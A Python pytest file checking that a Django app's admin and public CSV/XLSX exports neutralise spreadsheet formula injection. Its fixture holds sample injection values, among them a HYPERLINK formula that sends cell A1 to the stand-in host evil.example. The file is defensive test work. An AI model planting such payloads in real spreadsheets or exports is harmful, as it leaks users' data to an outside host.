"""Exports are inert (issue 14, row 4 and "Must hold" 4): admin CSV and XLSX files carry no
live formula, and numbers stay numbers."""

import csv
import io

import openpyxl
import pytest

from tests.partners.factories import AgreementFactory, PartnerFactory
from tests.visits.factories import VisitFactory

HOSTILE = {
    "name_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "name_ar": "+SUM(1,2)",
    "city_en": "@cmd",
    "city_ar": "-2+3",
    "short_name_en": "\tTab",
    "short_name_ar": "\rCR",
}
FIELDS = ["slug", "name_ar", "name_en", "short_name_ar", "short_name_en", "city_ar", "city_en"]


@pytest.fixture
def hostile_partner(db):
    partner = PartnerFactory(slug="hostile", **HOSTILE)
    AgreementFactory(partners=[partner])
    AgreementFactory(partners=[partner])
    return partner


def export(staff_client, file_format):
    post = {f"partnerresource_{name}": "on" for name in [*FIELDS, "agreement_count"]}
    response = staff_client.post(
        "/admin/partners/partner/export/", {**post, "format": file_format, "resource": "0"}
    )
    assert response.status_code == 200
    return response.content


def test_admin_xlsx_export_has_no_formula_and_keeps_numbers(staff_client, hostile_partner):
    book = openpyxl.load_workbook(io.BytesIO(export(staff_client, "1")))
    rows = list(book.active.iter_rows(values_only=False))
    header = [cell.value for cell in rows[0]]
    row = dict(zip(header, rows[1], strict=True))
    for field, value in HOSTILE.items():
        cell = row[field]
        assert cell.data_type == "s", field  # text, never "f" (formula)
        assert cell.value.startswith("'")
        assert cell.value[1:].strip() == value.strip()  # XLSX keeps CR as a line feed
    assert row["agreements"].value == 2
    assert row["agreements"].data_type == "n"


def test_admin_csv_export_neutralises_formulas(staff_client, hostile_partner):
    text = export(staff_client, "0").decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value
    assert row["agreements"] == "2"


def test_the_visits_export_neutralises_formulas(staff_client, site):
    VisitFactory(title_en="=1+1", title_ar="@x")
    response = staff_client.post(
        "/admin/visits/visit/export/", {"format": "0", "resource": "0"}, HTTP_ACCEPT_LANGUAGE="en"
    )
    if response["Content-Type"].startswith("text/html"):  # the field choice form first
        import re

        fields = dict(re.findall(r'name="([\w-]+)"[^>]*value="([^"]*)"', response.content.decode()))
        response = staff_client.post("/admin/visits/visit/export/", {**fields, "format": "0"})
    text = response.content.decode("utf-8-sig")
    assert "'=1+1" in text and "'@x" in text
    assert ",=1+1" not in text


def test_every_admin_export_goes_through_the_safe_resource():
    from django.contrib import admin

    from intloffice.exports import SafeModelResource

    for model_admin in admin.site._registry.values():
        for resource in getattr(model_admin, "resource_classes", None) or []:
            assert issubclass(resource, SafeModelResource), resource


def test_public_open_data_csv_neutralises_formulas(client, hostile_partner):
    response = client.get("/en/partners/?format=csv")
    assert response.status_code == 200
    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["name"] == "'" + HOSTILE["name_en"]
    assert row["city"] == "'" + HOSTILE["city_en"]
    assert row["active_agreements"] == "2"
    agreements = client.get("/en/agreements/?format=csv").content.decode("utf-8-sig")
    assert all(
        row["partners"] == "'" + HOSTILE["name_en"]
        for row in csv.DictReader(io.StringIO(agreements))
    )
    # JSON is not read by spreadsheets: the value stays as it was typed.
    data = client.get("/en/partners/?format=json").json()
    assert data["results"][0]["name"] == HOSTILE["name_en"]
